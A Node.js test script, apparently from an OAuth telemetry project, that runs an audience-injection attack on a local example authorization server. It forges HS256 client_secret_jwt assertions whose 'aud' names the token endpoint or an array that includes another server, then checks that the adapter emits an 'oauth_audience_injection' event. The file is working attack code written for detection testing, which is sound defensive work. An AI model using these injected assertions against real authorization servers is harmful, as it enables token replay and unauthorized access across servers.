#!/usr/bin/env node
// Audience injection (draft-ietf-oauth-security-topics-update; RFC 7523 §3) against the example AS.
//
//   node examples/auth-server/src/main.mjs &
//   node scripts/attacks/audience-injection.mjs http://127.0.0.1:4000
//
// A confidential client authenticates with client_secret_jwt assertions. The honest assertion's
// `aud` is the issuer. The injected ones name the token endpoint, or an array with another AS in
// it: an assertion an attacker could replay at another AS that accepts the same audience. The
// example AS (oidc-provider) accepts both, so the grant succeeds; the AS adapter reports
// `oauth_audience_injection` (audience_injection, reason aud_not_issuer / aud_array).
// packages/oauth-otel/test/adapters/threats.test.ts runs it against the real AS.
import { createHmac, randomBytes } from 'node:crypto';

import { cli, register, target } from './lib.mjs';

/** A confidential client_credentials client that authenticates with client_secret_jwt. */
export function assertionClient(t) {
  return register(t, { token_endpoint_auth_method: 'client_secret_jwt', grant_types: ['client_credentials'], response_types: [], redirect_uris: [] });
}

/** An HS256 client assertion (RFC 7523 §3) with the given `aud`. */
export function clientSecretJwt(t, client, aud) {
  const b64 = (o) => Buffer.from(JSON.stringify(o)).toString('base64url');
  const now = Math.floor(Date.now() / 1000);
  const input = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64({ iss: client.client_id, sub: client.client_id, aud, jti: randomBytes(12).toString('hex'), iat: now, exp: now + 60 })}`;
  return t.keep(`${input}.${createHmac('sha256', client.client_secret).update(input).digest('base64url')}`);
}

/** A client_credentials grant authenticated by an assertion with `aud`; resolves to the HTTP status. */
export async function grantWithAudience(t, client, aud) {
  const res = await fetch(t.md.token_endpoint, {
    method: 'POST',
    body: new URLSearchParams({
      grant_type: 'client_credentials',
      resource: t.resourceUrl,
      client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
      client_assertion: clientSecretJwt(t, client, aud),
    }),
  });
  const body = await res.json().catch(() => ({}));
  t.keep(body.access_token);
  return res.status;
}

/** The two injected audiences: the token endpoint, and the issuer next to another AS. */
export const injectedAudiences = (t) => [t.md.token_endpoint, [t.issuer, 'https://other-as.example/']];

export async function runAudienceInjection(options) {
  const t = await target(options);
  const client = await assertionClient(t);
  const honest = await grantWithAudience(t, client, t.issuer);
  const injected = [];
  for (const aud of injectedAudiences(t)) injected.push(await grantWithAudience(t, client, aud));
  return { honest: { status: honest }, injected: { statuses: injected }, expect: { event: 'oauth_audience_injection', type: 'audience_injection' } };
}

cli(import.meta, runAudienceInjection);
